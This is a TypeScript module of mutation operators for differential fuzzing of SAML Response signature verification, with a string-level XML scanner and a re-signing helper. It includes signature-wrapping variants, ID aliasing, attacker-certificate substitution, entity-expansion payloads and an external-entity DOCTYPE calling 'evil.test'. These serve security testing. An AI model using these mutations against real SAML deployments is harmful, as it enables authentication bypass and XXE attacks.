// Mutations of a valid SAML Response, for the differential fuzz test (run.ts): each one edits the
// decoded XML *string* (not a DOM), so it can produce what no serializer would: odd whitespace in
// tags, character references, unbound prefixes, truncated markup. A small scanner finds elements
// and attributes by position; it is forgiving, not a parser, and a mutation that finds nothing to
// act on returns undefined. Randomness comes only from the seeded Rng, so a case replays exactly.
import { constants, createCipheriv, createDecipheriv, privateDecrypt, type CipherGCM, type CipherGCMTypes } from 'node:crypto';
import { DOMParser } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';
import * as attack from '../saml-idp/attacks.js';
import { keys } from '../saml-idp/keys.js';
import { pemBody } from '../saml-idp/xml.js';

export interface Rng {
  next(): number;
  int(n: number): number;
  pick<T>(items: readonly T[]): T;
  chance(p: number): boolean;
}

/** mulberry32: tiny, fast, and good enough to pick mutations; Math.random would make runs unrepeatable. */
export function mulberry32(seed: number): Rng {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n: number) => Math.floor(next() * n);
  return { next, int, pick: <T>(items: readonly T[]) => items[int(items.length)]!, chance: (p: number) => next() < p };
}

export interface Mutation {
  readonly kind: string;
  apply(xml: string, rng: Rng): string | undefined;
}

// ---------------------------------------------------------------------------------------------
// The scanner: elements with their tag, content and attribute positions, in document order.

export interface Attr { name: string; value: string; start: number; end: number; valueStart: number; valueEnd: number }
export interface Span {
  qname: string; prefix: string; local: string;
  /** `<` of the start tag, `>` + 1 of the start tag, `<` of the end tag, `>` + 1 of the end tag. */
  start: number; openEnd: number; closeStart: number; end: number;
  /** Self-closing, or ended by its own end tag (not cut off by an ancestor's or the end of input). */
  selfClosing: boolean; closed: boolean; parent: number; children: number[]; attrs: Attr[];
}

const TOKEN = /<!--[\s\S]*?(?:-->|$)|<!\[CDATA\[[\s\S]*?(?:\]\]>|$)|<\?[\s\S]*?(?:\?>|$)|<!DOCTYPE(?:[^>[]|\[[\s\S]*?\])*>|<\/([^\s>]+)\s*>|<([A-Za-z_][^\s/>]*)((?:\s+[^\s=/>]+\s*=\s*(?:"[^"]*"|'[^']*'))*)\s*(\/?)>/g;
const ATTR = /([^\s=/>]+)\s*=\s*(?:"([^"]*)"|'([^']*)')/g;

export function scan(xml: string): Span[] {
  const spans: Span[] = [];
  const stack: number[] = [];
  for (const m of xml.matchAll(TOKEN)) {
    const at = m.index;
    if (m[1] !== undefined) {
      let k = stack.length - 1;
      while (k >= 0 && spans[stack[k]!]!.qname !== m[1]) k--;
      if (k < 0) continue; // a stray end tag: not well-formed, nothing to attach it to
      // Elements still open inside the one this tag ends are cut off here (forgiving, not strict).
      const [match, ...cut] = stack.splice(k);
      Object.assign(spans[match!]!, { closeStart: at, end: at + m[0].length, closed: true });
      for (const i of cut) Object.assign(spans[i]!, { closeStart: at, end: at });
    } else if (m[2] !== undefined) {
      const qname = m[2];
      const colon = qname.indexOf(':');
      const attrsAt = at + 1 + qname.length;
      const attrs = [...(m[3] ?? '').matchAll(ATTR)].map((a) => {
        const start = attrsAt + a.index;
        const valueStart = start + a[0].length - 1 - (a[2] ?? a[3] ?? '').length;
        return { name: a[1]!, value: a[2] ?? a[3] ?? '', start, end: start + a[0].length, valueStart, valueEnd: start + a[0].length - 1 };
      });
      const end = at + m[0].length;
      const parent = stack.at(-1) ?? -1;
      const span: Span = {
        qname, prefix: colon < 0 ? '' : qname.slice(0, colon), local: qname.slice(colon + 1),
        start: at, openEnd: end, closeStart: end, end, selfClosing: m[4] === '/', closed: m[4] === '/', parent, children: [], attrs,
      };
      spans.push(span);
      if (parent >= 0) spans[parent]!.children.push(spans.length - 1);
      if (!span.selfClosing) {
        Object.assign(span, { closeStart: xml.length, end: xml.length });
        stack.push(spans.length - 1);
      }
    }
  }
  return spans;
}

interface Edit { start: number; end: number; text: string }
/** Applies non-overlapping edits (positions in the original string). */
function edit(xml: string, edits: Edit[]): string {
  let out = xml;
  for (const e of [...edits].sort((a, b) => b.start - a.start || b.end - a.end)) out = out.slice(0, e.start) + e.text + out.slice(e.end);
  return out;
}
const insert = (xml: string, at: number, text: string) => xml.slice(0, at) + text + xml.slice(at);

const named = (spans: Span[], local: string) => spans.filter((s) => s.local === local);
const isDecl = (a: Attr) => a.name === 'xmlns' || a.name.startsWith('xmlns:');
const declPrefix = (a: Attr) => (a.name === 'xmlns' ? '' : a.name.slice(6));
const within = (spans: Span[], inner: number, outer: number): boolean => inner === outer || (inner >= 0 && within(spans, spans[inner]!.parent, outer));
/** Leaf elements with content; half the time one of the values SAML actually reads or verifies. */
const VALUE_LOCALS = ['NameID', 'Audience', 'AttributeValue', 'Issuer', 'DigestValue', 'SignatureValue', 'X509Certificate', 'CipherValue'];
function pickLeaf(spans: Span[], rng: Rng): Span | undefined {
  const leaves = spans.filter((s) => !s.selfClosing && s.children.length === 0 && s.closeStart > s.openEnd);
  const preferred = leaves.filter((s) => VALUE_LOCALS.includes(s.local));
  const from = preferred.length > 0 && rng.chance(0.5) ? preferred : leaves;
  return from.length > 0 ? rng.pick(from) : undefined;
}
/** Offsets in [from, to] not inside markup or an entity reference. */
function safeOffset(xml: string, from: number, to: number, rng: Rng): number {
  const unsafe = new Set<number>();
  for (const m of xml.slice(from, to).matchAll(/<[^>]*>|&[^;]*;/g)) for (let i = 1; i < m[0].length; i++) unsafe.add(from + m.index + i);
  const offsets: number[] = [];
  for (let i = from; i <= to; i++) if (!unsafe.has(i)) offsets.push(i);
  return rng.pick(offsets);
}
/** A character of a text or attribute value that may be replaced (a letter or digit, so never markup). */
function pickValueChar(xml: string, spans: Span[], rng: Rng): number | undefined {
  const ranges: Array<[number, number]> = [];
  const leaf = pickLeaf(spans, rng);
  if (leaf) ranges.push([leaf.openEnd, leaf.closeStart]);
  const withAttrs = spans.filter((s) => s.attrs.some((a) => !isDecl(a)));
  if (withAttrs.length > 0) {
    const attr = rng.pick(rng.pick(withAttrs).attrs.filter((a) => !isDecl(a)));
    ranges.push([attr.valueStart, attr.valueEnd]);
  }
  if (ranges.length === 0) return undefined;
  const [from, to] = rng.pick(ranges);
  const chars: number[] = [];
  for (let i = from; i < to; i++) if (/[A-Za-z0-9]/.test(xml[i]!)) chars.push(i);
  return chars.length > 0 ? rng.pick(chars) : undefined;
}
function shuffled<T>(items: readonly T[], rng: Rng): T[] {
  const out = [...items];
  for (let i = out.length - 1; i > 0; i--) {
    const j = rng.int(i + 1);
    [out[i], out[j]] = [out[j]!, out[i]!];
  }
  return out;
}
function openTag(span: Span, attrs: string[], selfClosing = span.selfClosing): string {
  return `<${span.qname}${attrs.map((a) => ` ${a}`).join('')}${selfClosing ? '/' : ''}>`;
}
const attrText = (xml: string, a: Attr) => xml.slice(a.start, a.end);
/** Nearest declaration of `prefix` at or above element `i`. */
function declarer(spans: Span[], i: number, prefix: string): { at: number; attr: Attr } | undefined {
  for (let at = i; at >= 0; at = spans[at]!.parent) {
    const attr = spans[at]!.attrs.find((a) => isDecl(a) && declPrefix(a) === prefix);
    if (attr) return { at, attr };
  }
  return undefined;
}
const freshPrefix = (xml: string, rng: Rng) => {
  for (;;) {
    const p = `fz${rng.int(1000)}`;
    if (!xml.includes(`${p}:`)) return p;
  }
};

// ---------------------------------------------------------------------------------------------
// Namespace prefixes.

/** Renames `prefix` (from its declaration on element `at`) to `to` on every use it governs; `keep` drops some edits. */
function renamePrefix(xml: string, spans: Span[], at: number, prefix: string, to: string, keep: (e: Edit) => boolean): string {
  const edits: Edit[] = [];
  const q = (local: string) => (to === '' ? local : `${to}:${local}`);
  spans.forEach((s, i) => {
    if (!within(spans, i, at) || declarer(spans, i, prefix)?.at !== at) return;
    if (s.prefix === prefix) {
      edits.push({ start: s.start + 1, end: s.start + 1 + s.qname.length, text: q(s.local) });
      if (!s.selfClosing && s.closed) edits.push({ start: s.closeStart + 2, end: s.closeStart + 2 + s.qname.length, text: q(s.local) });
    }
    for (const a of s.attrs) {
      if (isDecl(a) && declPrefix(a) === prefix && i === at) edits.push({ start: a.start, end: a.start + a.name.length, text: to === '' ? 'xmlns' : `xmlns:${to}` });
      else if (prefix !== '' && !isDecl(a) && a.name.startsWith(`${prefix}:`)) edits.push({ start: a.start, end: a.start + prefix.length, text: to });
    }
  });
  const kept = edits.filter(keep);
  return kept.length > 0 ? edit(xml, kept) : xml;
}

function prefixRename(consistent: boolean): Mutation['apply'] {
  return (xml, rng) => {
    const spans = scan(xml);
    const decls = spans.flatMap((s, at) => s.attrs.filter(isDecl).map((attr) => ({ at, prefix: declPrefix(attr) })));
    if (decls.length === 0) return undefined;
    const { at, prefix } = rng.pick(decls);
    const to = freshPrefix(xml, rng);
    // Inconsistent: each edit survives with probability 1/2 (at least one is dropped below or above).
    const keep = consistent ? () => true : () => rng.chance(0.5);
    const out = renamePrefix(xml, spans, at, prefix, to, keep);
    return out === xml ? undefined : out;
  };
}

const nsRedundant: Mutation['apply'] = (xml, rng) => {
  const spans = scan(xml);
  const candidates = spans.map((_, i) => i).filter((i) => i > 0);
  if (candidates.length === 0) return undefined;
  const i = rng.pick(candidates);
  // Redeclare an inherited prefix with its own value, or declare one nobody uses.
  const inherited = spans.flatMap((s, at) => (within(spans, i, at) && at !== i ? s.attrs.filter(isDecl) : []));
  const decl = inherited.length > 0 && rng.chance(0.7) ? attrText(xml, rng.pick(inherited)) : `xmlns:${freshPrefix(xml, rng)}="urn:fuzz:unused"`;
  return insert(xml, spans[i]!.start + 1 + spans[i]!.qname.length, ` ${decl}`);
};

function nsMove(direction: 'up' | 'down'): Mutation['apply'] {
  return (xml, rng) => {
    const spans = scan(xml);
    const decls = spans.flatMap((s, at) => s.attrs.filter(isDecl).map((attr) => ({ at, attr })));
    const movable = decls.filter(({ at }) => (direction === 'up' ? spans[at]!.parent >= 0 : spans[at]!.children.length > 0));
    if (movable.length === 0) return undefined;
    const { at, attr } = rng.pick(movable);
    const targets = direction === 'up' ? [spans[at]!.parent] : spans[at]!.children;
    const text = attrText(xml, attr);
    const edits: Edit[] = [{ start: attr.start - 1, end: attr.end, text: '' }];
    for (const t of targets) {
      const target = spans[t]!;
      if (target.attrs.some((a) => isDecl(a) && declPrefix(a) === declPrefix(attr))) continue;
      edits.push({ start: target.start + 1 + target.qname.length, end: target.start + 1 + target.qname.length, text: ` ${text}` });
    }
    return edit(xml, edits);
  };
}

const nsUndeclare: Mutation['apply'] = (xml, rng) => {
  const spans = scan(xml);
  if (spans.length < 2) return undefined;
  const s = spans[1 + rng.int(spans.length - 1)]!;
  const decl = rng.chance(0.5) || s.prefix === '' ? 'xmlns=""' : `xmlns:${s.prefix}=""`;
  return insert(xml, s.start + 1 + s.qname.length, ` ${decl}`);
};

// ---------------------------------------------------------------------------------------------
// Markup that c14n normalizes away (or must not).

const WHITESPACE = [' ', '\n', '\t', '\r\n', '\r', '  \n\t '];

const wsBetween: Mutation['apply'] = (xml, rng) => {
  const spans = scan(xml);
  if (spans.length === 0) return undefined;
  const positions = spans.flatMap((s) => [s.start, s.end, ...(s.children.length > 0 ? [s.openEnd, s.closeStart] : [])]);
  return insert(xml, rng.pick(positions), rng.pick(WHITESPACE));
};

const wsInTag: Mutation['apply'] = (xml, rng) => {
  const spans = scan(xml);
  if (spans.length === 0) return undefined;
  const s = rng.pick(spans);
  const ws = () => rng.pick(WHITESPACE);
  const attrs = s.attrs.map((a) => {
    const value = xml.slice(a.valueStart, a.valueEnd);
    const quote = !value.includes("'") && rng.chance(0.5) ? "'" : '"';
    return `${a.name}${rng.chance(0.3) ? ws() : ''}=${rng.chance(0.3) ? ws() : ''}${quote}${value}${quote}`;
  });
  const open = `<${s.qname}${attrs.map((a) => `${ws()}${a}`).join('')}${rng.chance(0.5) ? ws() : ''}${s.selfClosing ? '/' : ''}>`;
  const edits: Edit[] = [{ start: s.start, end: s.openEnd, text: open }];
  if (!s.selfClosing && s.closed && rng.chance(0.5)) edits.push({ start: s.closeStart, end: s.end, text: `</${s.qname}${ws()}>` });
  return edit(xml, edits);
};

const selfCloseToggle: Mutation['apply'] = (xml, rng) => {
  const spans = scan(xml).filter((s) => s.selfClosing || (s.closeStart === s.openEnd && s.end > s.closeStart));
  if (spans.length === 0) return undefined;
  const s = rng.pick(spans);
  const attrs = s.attrs.map((a) => attrText(xml, a));
  return s.selfClosing
    ? edit(xml, [{ start: s.start, end: s.end, text: `${openTag(s, attrs, false)}</${s.qname}>` }])
    : edit(xml, [{ start: s.start, end: s.end, text: openTag(s, attrs, true) }]);
};

function inText(make: (rng: Rng) => string): Mutation['apply'] {
  return (xml, rng) => {
    const leaf = pickLeaf(scan(xml), rng);
    return leaf ? insert(xml, safeOffset(xml, leaf.openEnd, leaf.closeStart, rng), make(rng)) : undefined;
  };
}
function between(make: (rng: Rng) => string): Mutation['apply'] {
  return (xml, rng) => {
    const spans = scan(xml);
    if (spans.length === 0) return undefined;
    const positions = spans.flatMap((s) => [s.start, s.end, ...(s.selfClosing ? [] : [s.openEnd, s.closeStart])]);
    return insert(xml, rng.pick(positions), make(rng));
  };
}
const comment = (rng: Rng) => rng.pick(['<!---->', '<!--x-->', '<!-- .attacker.test -->']);
const instruction = (rng: Rng) => rng.pick(['<?fz data?>', '<?fz?>', '<?fz   spaced  ?>', '<?xml-stylesheet href="a"?>']);

const cdataSplit: Mutation['apply'] = (xml, rng) => {
  const leaves = scan(xml).filter((s) => s.children.length === 0 && s.closeStart > s.openEnd && !/[<&]/.test(xml.slice(s.openEnd, s.closeStart)));
  if (leaves.length === 0) return undefined;
  const s = rng.pick(leaves);
  const text = xml.slice(s.openEnd, s.closeStart);
  const a = rng.int(text.length + 1);
  const b = a + rng.int(text.length - a + 1);
  return edit(xml, [{ start: s.openEnd, end: s.closeStart, text: `${text.slice(0, a)}<![CDATA[${text.slice(a, b)}]]>${text.slice(b)}` }]);
};

/** The same character as a character reference: the parsed value is unchanged. */
const charRef: Mutation['apply'] = (xml, rng) => {
  const at = pickValueChar(xml, scan(xml), rng);
  if (at === undefined) return undefined;
  const code = xml.charCodeAt(at);
  return edit(xml, [{ start: at, end: at + 1, text: rng.chance(0.5) ? `&#${code};` : `&#x${code.toString(16).toUpperCase()};` }]);
};

/** A character replaced by a predefined entity: the value changes (to `&`, `<`, ...). */
const entitySwap: Mutation['apply'] = (xml, rng) => {
  const at = pickValueChar(xml, scan(xml), rng);
  return at === undefined ? undefined : edit(xml, [{ start: at, end: at + 1, text: rng.pick(['&amp;', '&lt;', '&gt;', '&quot;', '&apos;']) }]);
};

/** Characters XML 1.0 forbids or treats specially (C0 controls, non-characters, NEL, LS). */
const invalidChar: Mutation['apply'] = (xml, rng) => {
  const at = pickValueChar(xml, scan(xml), rng);
  return at === undefined ? undefined : insert(xml, at, rng.pick(['\u0001', '\u000B', '\uFFFE', '\u0085', '\u2028', '\u0000']));
};

/** Whitespace and line ends in attribute values: literal ones are normalized to spaces, references are not. */
const attrWhitespace: Mutation['apply'] = (xml, rng) => {
  const at = pickValueChar(xml, scan(xml), rng);
  return at === undefined ? undefined : insert(xml, at, rng.pick(['\t', '\n', '\r\n', '&#9;', '&#10;', '&#13;', ' ']));
};

const wsInText: Mutation['apply'] = (xml, rng) => {
  const leaf = pickLeaf(scan(xml), rng);
  if (!leaf) return undefined;
  const at = rng.pick([leaf.openEnd, leaf.closeStart, safeOffset(xml, leaf.openEnd, leaf.closeStart, rng)]);
  return insert(xml, at, rng.pick(WHITESPACE));
};

// ---------------------------------------------------------------------------------------------
// Structure: duplicates, moves, wrappers, signature wrapping.

function duplicate(local: string): Mutation['apply'] {
  return (xml, rng) => {
    const found = named(scan(xml), local);
    if (found.length === 0) return undefined;
    const s = rng.pick(found);
    const copy = xml.slice(s.start, s.end);
    return insert(xml, rng.chance(0.5) ? s.end : s.start, copy);
  };
}

/** Removes element `s` and inserts it at `at` (an offset outside `s`), with `wrap` around it. */
function move(xml: string, s: Span, at: number, wrap = (x: string) => x): string {
  const moved = wrap(xml.slice(s.start, s.end));
  return edit(xml, [{ start: s.start, end: s.end, text: '' }, { start: at, end: at, text: moved }]);
}
const afterIssuer = (spans: Span[], parent: number) => {
  const issuer = spans[parent]!.children.map((c) => spans[c]!).find((c) => c.local === 'Issuer');
  return issuer ? issuer.end : spans[parent]!.openEnd;
};

const moveAssertionToExtensions: Mutation['apply'] = (xml, rng) => {
  const spans = scan(xml);
  const assertion = named(spans, 'Assertion')[0];
  if (!assertion || spans[0] === undefined) return undefined;
  const p = spans[0].prefix ? `${spans[0].prefix}:` : '';
  const copy = rng.chance(0.5); // a copy in Extensions beside the original, or the original moved there
  const wrapped = `<${p}Extensions>${xml.slice(assertion.start, assertion.end)}</${p}Extensions>`;
  const at = afterIssuer(spans, 0);
  return copy ? insert(xml, at, wrapped) : move(xml, assertion, at, () => wrapped);
};

const moveAssertionToObject: Mutation['apply'] = (xml, rng) => {
  const spans = scan(xml);
  const assertion = named(spans, 'Assertion')[0];
  if (!assertion) return undefined;
  const signature = named(spans, 'Signature').find((s) => !within(spans, spans.indexOf(s), spans.indexOf(assertion)));
  if (!signature) return undefined;
  const p = signature.prefix ? `${signature.prefix}:` : '';
  const wrapped = `<${p}Object>${xml.slice(assertion.start, assertion.end)}</${p}Object>`;
  return rng.chance(0.5) ? insert(xml, signature.closeStart, wrapped) : move(xml, assertion, signature.closeStart, () => wrapped);
};

const moveSignature: Mutation['apply'] = (xml, rng) => {
  const spans = scan(xml);
  const signatures = named(spans, 'Signature');
  if (signatures.length === 0) return undefined;
  const s = rng.pick(signatures);
  const i = spans.indexOf(s);
  const targets = spans.filter((t, j) => !within(spans, j, i) && !t.selfClosing && j !== s.parent);
  if (targets.length === 0) return undefined;
  const t = rng.pick(targets);
  return move(xml, s, rng.chance(0.5) ? t.openEnd : afterIssuer(spans, spans.indexOf(t)));
};

const moveElement: Mutation['apply'] = (xml, rng) => {
  const spans = scan(xml);
  if (spans.length < 3) return undefined;
  const i = 1 + rng.int(spans.length - 1);
  const targets = spans.map((t, j) => ({ t, j })).filter(({ t, j }) => !within(spans, j, i) && !t.selfClosing);
  if (targets.length === 0) return undefined;
  const { t } = rng.pick(targets);
  return move(xml, spans[i]!, rng.pick([t.openEnd, t.closeStart]));
};

function wrap(local: string): Mutation['apply'] {
  return (xml, rng) => {
    const found = named(scan(xml), local);
    if (found.length === 0) return undefined;
    const s = rng.pick(found);
    // The wrapper takes the wrapped element's own name half the time, as XSW variants do.
    const tag = rng.chance(0.5) ? s.qname : 'fz:Wrapper';
    const decl = tag === 'fz:Wrapper' ? ' xmlns:fz="urn:fuzz"' : '';
    return edit(xml, [{ start: s.start, end: s.end, text: `<${tag}${decl}>${xml.slice(s.start, s.end)}</${tag}>` }]);
  };
}

function xsw(variant: keyof typeof attack.XSW): Mutation['apply'] {
  return (xml) => {
    try {
      return attack.XSW[variant](xml);
    } catch {
      return undefined; // the variant needs a signature this response does not have, or XML that parses
    }
  };
}

// ---------------------------------------------------------------------------------------------
// Values: signed characters, IDs, references, sizes.

const changeChar: Mutation['apply'] = (xml, rng) => {
  const at = pickValueChar(xml, scan(xml), rng);
  if (at === undefined) return undefined;
  const replacement = rng.pick(['a', 'Z', '0', '9', 'é', '＠', '\u0301', '\u{1F600}']);
  return edit(xml, [{ start: at, end: at + 1, text: replacement === xml[at] ? 'q' : replacement }]);
};

const idChange: Mutation['apply'] = (xml, rng) => {
  const spans = scan(xml);
  const ids = spans.flatMap((s) => s.attrs.filter((a) => a.name === 'ID'));
  const uris = named(spans, 'Reference').flatMap((s) => s.attrs.filter((a) => a.name === 'URI'));
  if (ids.length === 0) return undefined;
  const id = rng.pick(ids);
  const to = rng.pick([`${id.value}x`, `_evil`, '', ' ', `${id.value} `, `1${id.value}`, `a'b`, 'a"b']);
  const escaped = to.replace(/"/g, '&quot;');
  const edits: Edit[] = [];
  const mode = rng.int(3); // 0: the ID only, 1: the Reference URI only, 2: both, consistently
  if (mode !== 1) edits.push({ start: id.valueStart, end: id.valueEnd, text: xml[id.valueStart - 1] === '"' ? escaped : to });
  for (const uri of uris) if (mode !== 0 && uri.value === `#${id.value}`) edits.push({ start: uri.valueStart, end: uri.valueEnd, text: `#${escaped}` });
  return edits.length > 0 ? edit(xml, edits) : undefined;
};

/** Another element also carries an existing ID value, under ID or the Id/id names xml-crypto also honours. */
const idAlias: Mutation['apply'] = (xml, rng) => {
  const spans = scan(xml);
  const ids = spans.flatMap((s) => s.attrs.filter((a) => a.name === 'ID'));
  if (ids.length === 0 || spans.length < 2) return undefined;
  const value = rng.pick(ids).value;
  const target = rng.pick(spans);
  const name = rng.pick(['ID', 'Id', 'id', 'wsu:Id']);
  const decl = name === 'wsu:Id' ? ' xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd"' : '';
  if (target.attrs.some((a) => a.name === name)) return undefined;
  return insert(xml, target.start + 1 + target.qname.length, `${decl} ${name}="${value}"`);
};

const truncate: Mutation['apply'] = (xml, rng) => (xml.length > 1 ? xml.slice(0, rng.int(xml.length)) : undefined);

const manyAttributes: Mutation['apply'] = (xml, rng) => {
  const spans = scan(xml);
  if (spans.length === 0) return undefined;
  const s = rng.pick(spans);
  const n = rng.pick([63, 64, 65, 100, 1000]);
  const namespaced = rng.chance(0.3);
  const attrs = Array.from({ length: n }, (_, i) => (namespaced ? ` fz:a${i}="${i}"` : ` a${i}="${i}"`)).join('');
  return insert(xml, s.start + 1 + s.qname.length, `${namespaced ? ' xmlns:fz="urn:fuzz"' : ''}${attrs}`);
};

const attrDuplicate: Mutation['apply'] = (xml, rng) => {
  const spans = scan(xml).filter((s) => s.attrs.length > 0);
  if (spans.length === 0) return undefined;
  const s = rng.pick(spans);
  const a = rng.pick(s.attrs);
  return insert(xml, s.start + 1 + s.qname.length, ` ${a.name}="${rng.chance(0.5) ? a.value : 'fz'}"`);
};

const deepNesting: Mutation['apply'] = (xml, rng) => {
  const spans = scan(xml);
  if (spans.length === 0) return undefined;
  const depth = rng.pick([10, 50, 62, 64, 66, 200]);
  const s = rng.pick(spans.filter((t) => !t.selfClosing).length > 0 ? spans.filter((t) => !t.selfClosing) : spans);
  const nested = `${'<fz:n xmlns:fz="urn:fuzz">'.repeat(depth)}${'</fz:n>'.repeat(depth)}`;
  return insert(xml, rng.pick([s.openEnd, s.closeStart]), nested);
};

const doctype: Mutation['apply'] = (xml, rng) => {
  try {
    return rng.pick([() => attack.addDoctype(xml), () => attack.entityExpansion(xml, 3), () => attack.addDoctype(xml, '<!ENTITY % p SYSTEM "http://evil.test/x">')])();
  } catch {
    return undefined;
  }
};

const prolog: Mutation['apply'] = (xml, rng) => {
  const decl = /^<\?xml[^?]*\?>/.exec(xml)?.[0] ?? '';
  const rest = xml.slice(decl.length);
  return rng.pick([
    () => rest, // no XML declaration
    () => `${decl}\n<!-- before the root -->\n${rest}\n`,
    () => ` ${xml}`, // whitespace before the declaration: not well-formed
    () => `\uFEFF${xml}`,
    () => `<?xml version="1.0" encoding="ISO-8859-1"?>${rest}`,
    () => `<?xml version="1.1"?>${rest}`,
    () => `${xml}<trailing/>`,
  ])();
};

// ---------------------------------------------------------------------------------------------
// Signature algorithms and key material (a change inside SignedInfo needs "resign" to stay valid).

const DSIG = 'http://www.w3.org/2000/09/xmldsig#';
const ALGORITHMS = {
  'rsa-sha1': `${DSIG}rsa-sha1`,
  'rsa-sha512': 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha512',
  sha1: `${DSIG}sha1`,
  sha512: 'http://www.w3.org/2001/04/xmlenc#sha512',
  c14n: 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315',
  c14nComments: 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315#WithComments',
  excC14n: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  excC14nComments: 'http://www.w3.org/2001/10/xml-exc-c14n#WithComments',
  enveloped: `${DSIG}enveloped-signature`,
} as const;

/** Sets the Algorithm of a random element named `local` to one of `uris`. */
function algorithm(local: string, uris: readonly string[]): Mutation['apply'] {
  return (xml, rng) => {
    const found = named(scan(xml), local).flatMap((s) => s.attrs.filter((a) => a.name === 'Algorithm'));
    if (found.length === 0) return undefined;
    const a = rng.pick(found);
    return edit(xml, [{ start: a.valueStart, end: a.valueEnd, text: rng.pick(uris) }]);
  };
}

const transformAdd: Mutation['apply'] = (xml, rng) => {
  const transforms = named(scan(xml), 'Transforms');
  if (transforms.length === 0) return undefined;
  const t = rng.pick(transforms);
  const p = t.prefix ? `${t.prefix}:` : '';
  const uri = rng.pick([ALGORITHMS.excC14n, ALGORITHMS.c14n, ALGORITHMS.enveloped, 'http://www.w3.org/TR/1999/REC-xpath-19991116']);
  return insert(xml, rng.chance(0.5) ? t.openEnd : t.closeStart, `<${p}Transform Algorithm="${uri}"/>`);
};

const transformRemove: Mutation['apply'] = (xml, rng) => {
  const transforms = named(scan(xml), 'Transform');
  if (transforms.length === 0) return undefined;
  const t = rng.pick(transforms);
  return edit(xml, [{ start: t.start, end: t.end, text: '' }]);
};

/** An ec:InclusiveNamespaces PrefixList on an exclusive c14n Transform or CanonicalizationMethod. */
const prefixList: Mutation['apply'] = (xml, rng) => {
  const spans = scan(xml);
  const methods = spans.filter((s) => (s.local === 'Transform' || s.local === 'CanonicalizationMethod') && s.attrs.some((a) => a.value === ALGORITHMS.excC14n));
  if (methods.length === 0) return undefined;
  const m = rng.pick(methods);
  const prefixes = [...new Set(spans.flatMap((s) => s.attrs.filter(isDecl).map(declPrefix)).filter((p) => p !== ''))];
  const list = shuffled(['#default', ...prefixes, 'nope'], rng).slice(0, 1 + rng.int(3)).join(' ');
  const element = `<ec:InclusiveNamespaces xmlns:ec="${ALGORITHMS.excC14n}" PrefixList="${list}"/>`;
  const attrs = m.attrs.map((a) => attrText(xml, a));
  return edit(xml, [{ start: m.start, end: m.end, text: `${openTag(m, attrs, false)}${element}</${m.qname}>` }]);
};

const keyInfoAttacker: Mutation['apply'] = (xml, rng) => {
  const certs = named(scan(xml), 'X509Certificate');
  if (certs.length === 0) return undefined;
  const c = rng.pick(certs);
  return edit(xml, [{ start: c.openEnd, end: c.closeStart, text: pemBody(keys.attacker.certificate) }]);
};

const keyInfoRemove: Mutation['apply'] = (xml, rng) => {
  const infos = named(scan(xml), 'KeyInfo');
  if (infos.length === 0) return undefined;
  const k = rng.pick(infos);
  return edit(xml, [{ start: k.start, end: k.end, text: '' }]);
};

// ---------------------------------------------------------------------------------------------
// Re-signing: what an IdP signing with xml-crypto (as the test IdP does) would send for this XML.

interface SignedXmlInternals {
  signatureAlgorithm?: string;
  loadSignature(node: Node): void;
  getReferences(): Array<{ uri?: string; xpath?: string }>;
  getCanonReferenceXml(doc: Document, ref: unknown, node: Node): string;
  getCanonSignedInfoXml(doc: Document): string;
  findHashAlgorithm(name: string): { getHash(xml: string): string };
  findSignatureAlgorithm(name: string | undefined): { getSignature(xml: string, key: string): string };
}

const depthOf = (node: Node): number => (node.parentNode ? 1 + depthOf(node.parentNode) : 0);
const childrenNamed = (el: Element, local: string) => Array.from(el.childNodes).filter((n): n is Element => n.nodeType === 1 && (n as Element).localName === local);
function setText(el: Element, text: string): void {
  while (el.firstChild) el.removeChild(el.firstChild);
  el.appendChild(el.ownerDocument.createTextNode(text));
}

/**
 * Recomputes every DigestValue and SignatureValue with `privateKey`, innermost signature first, using
 * xml-crypto's own canonicalization and transforms (through its internals: it has no public API to
 * re-sign an existing Signature). The new values are spliced into the string, so every other
 * string-level oddity survives. Undefined when xmldom cannot parse the document.
 */
export function resign(xml: string, privateKey: string): string | undefined {
  const problems: string[] = [];
  let doc: Document;
  try {
    doc = new DOMParser({ errorHandler: { warning: () => undefined, error: (m) => void problems.push(m), fatalError: (m) => void problems.push(m) } }).parseFromString(xml, 'text/xml');
  } catch {
    return undefined; // xmldom throws (rather than reports) on some garbage, e.g. CDATA outside the root
  }
  if (problems.length > 0 || !doc.documentElement) return undefined;
  const changed = new Map<Element, string>();
  const signatures = Array.from(doc.getElementsByTagNameNS(DSIG, 'Signature')).sort((a, b) => depthOf(b) - depthOf(a));
  for (const signature of signatures) {
    try {
      const signer = new SignedXml({ privateKey }) as unknown as SignedXmlInternals;
      signer.loadSignature(signature);
      const info = childrenNamed(signature, 'SignedInfo')[0]!;
      const refNodes = childrenNamed(info, 'Reference');
      signer.getReferences().forEach((ref, i) => {
        const id = (ref.uri ?? '').replace(/^#/, '');
        if (id.includes("'")) return;
        ref.xpath = `//*[@*[local-name(.)='ID' or local-name(.)='Id' or local-name(.)='id']='${id}']`;
        const target = id === '' ? doc.documentElement : Array.from(doc.getElementsByTagName('*')).find((e) => ['ID', 'Id', 'id'].some((n) => e.getAttribute(n) === id));
        const digestEl = refNodes[i] && childrenNamed(refNodes[i], 'DigestValue')[0];
        const method = refNodes[i] && childrenNamed(refNodes[i], 'DigestMethod')[0]?.getAttribute('Algorithm');
        if (!target || !digestEl || !method) return;
        const digest = signer.findHashAlgorithm(method).getHash(signer.getCanonReferenceXml(doc, ref, target));
        setText(digestEl, digest);
        changed.set(digestEl, digest);
      });
      const value = signer.findSignatureAlgorithm(signer.signatureAlgorithm).getSignature(signer.getCanonSignedInfoXml(doc), privateKey);
      const valueEl = childrenNamed(signature, 'SignatureValue')[0];
      if (valueEl) {
        setText(valueEl, value);
        changed.set(valueEl, value);
      }
    } catch {
      // An algorithm or shape xml-crypto cannot sign: leave this signature as it is.
    }
  }
  return splice(xml, doc, changed);
}

/** Writes the new text of DigestValue/SignatureValue elements into the string, matching them by document order. */
function splice(xml: string, doc: Document, changed: Map<Element, string>): string | undefined {
